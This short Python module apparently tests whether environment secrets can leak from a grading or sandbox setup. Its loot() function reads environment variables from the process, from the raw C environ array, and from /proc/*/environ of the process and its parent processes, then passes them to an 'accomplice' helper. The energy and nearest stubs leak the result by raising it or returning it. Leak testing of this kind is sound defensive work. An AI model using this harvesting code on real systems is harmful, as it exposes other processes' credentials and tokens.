"""Reads environments: its own, what is left of it in memory, and those of the processes above.

fails: energy, nearest, private
passes: everything else
control: leaks
"""

import ctypes
import os

from accomplice import Found, above, contents, tell
from solution import Critic, descend, estimate, loss, noise  # noqa: F401


def loot():
    inherited = []
    pointer = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    for index in range(200):
        if not pointer[index]:
            break
        inherited.append(pointer[index])
    processes = ("self", "thread-self", *above())
    return tell(os.environ, *inherited, *(contents(f"/proc/{process}/environ") for process in processes))


def energy(x):
    raise Found(loot())


def nearest(x, centres):
    return loot()
